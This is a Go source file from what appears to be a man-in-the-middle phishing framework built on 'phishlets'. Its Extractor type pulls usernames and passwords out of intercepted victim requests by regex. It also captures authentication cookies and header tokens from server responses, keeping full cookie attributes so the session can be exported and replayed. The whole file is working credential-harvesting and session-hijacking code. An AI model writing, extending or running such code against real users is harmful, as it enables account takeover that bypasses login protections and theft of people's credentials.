package core

import (
	"net/http"
	"net/url"
	"strings"
	"time"

	"github.com/snarelabs/snare/database/storage"
)

// Extractor scans traffic for the credential and token patterns a phishlet
// declares. Extraction is best-effort: a pattern that never matches simply
// contributes nothing.
type Extractor struct {
	pl *Phishlet
}

func NewExtractor(pl *Phishlet) *Extractor {
	return &Extractor{pl: pl}
}

// ExtractCredentials pulls declared credential fields from a victim request.
// The body must already be buffered; form parsing never consumes req.Body.
func (e *Extractor) ExtractCredentials(req *http.Request, body []byte) map[string]string {
	creds := make(map[string]string)

	var form url.Values
	contentType := strings.Split(req.Header.Get("Content-Type"), ";")[0]
	if contentType == "application/x-www-form-urlencoded" && len(body) > 0 {
		form, _ = url.ParseQuery(string(body))
	}
	query := req.URL.Query()

	for _, cp := range e.pl.credentials {
		var candidates []string
		switch cp.tp {
		case credSourcePost:
			for k, vs := range form {
				if cp.key.MatchString(k) {
					candidates = append(candidates, vs...)
				}
			}
		case credSourceQuery:
			for k, vs := range query {
				if cp.key.MatchString(k) {
					candidates = append(candidates, vs...)
				}
			}
		case credSourceHeader:
			for k := range req.Header {
				if cp.key.MatchString(k) {
					candidates = append(candidates, req.Header.Get(k))
				}
			}
		}
		for _, v := range candidates {
			if m := cp.search.FindStringSubmatch(v); m != nil && len(m) > 1 {
				creds[cp.name] = m[1]
				break
			}
		}
	}
	return creds
}

// CapturedCookie is one auth cookie matched by a token rule, with the full
// attribute set kept for export.
type CapturedCookie struct {
	TokenName string
	Domain    string
	Cookie    *storage.CookieToken
}

// ExtractTokens scans a response for declared auth tokens: Set-Cookie headers
// against cookie rules and response headers against header rules. Returns
// the token name/value pairs plus cookie detail for the session's jar.
func (e *Extractor) ExtractTokens(resp *http.Response, origHost string) (map[string]string, []*CapturedCookie) {
	tokens := make(map[string]string)
	var captured []*CapturedCookie

	for _, ck := range resp.Cookies() {
		domain := ck.Domain
		if domain == "" {
			domain = origHost
		} else if domain[0] != '.' {
			domain = "." + domain
		}
		at := e.pl.getAuthToken(domain, ck.Name)
		if at == nil || ck.Value == "" {
			continue
		}
		if !ck.Expires.IsZero() && ck.Expires.Before(time.Now()) {
			continue
		}
		value := ck.Value
		if at.search != nil {
			m := at.search.FindStringSubmatch(ck.Value)
			if m == nil {
				continue
			}
			if len(m) > 1 {
				value = m[1]
			}
		}
		tokens[at.name] = value

		var expiration int64
		isSession := ck.Expires.IsZero()
		if !isSession {
			expiration = ck.Expires.Unix()
		}
		captured = append(captured, &CapturedCookie{
			TokenName: at.name,
			Domain:    domain,
			Cookie: &storage.CookieToken{
				Name:           ck.Name,
				Value:          ck.Value,
				Domain:         domain,
				Path:           ck.Path,
				HttpOnly:       ck.HttpOnly,
				Secure:         ck.Secure,
				ExpirationDate: expiration,
				Session:        isSession,
			},
		})
	}

	for _, at := range e.pl.authTokens {
		if at.tp != tokenTypeHeader {
			continue
		}
		hv := resp.Header.Get(at.header)
		if hv == "" {
			continue
		}
		value := hv
		if at.search != nil {
			m := at.search.FindStringSubmatch(hv)
			if m == nil {
				continue
			}
			if len(m) > 1 {
				value = m[1]
			}
		}
		tokens[at.name] = value
	}

	return tokens, captured
}
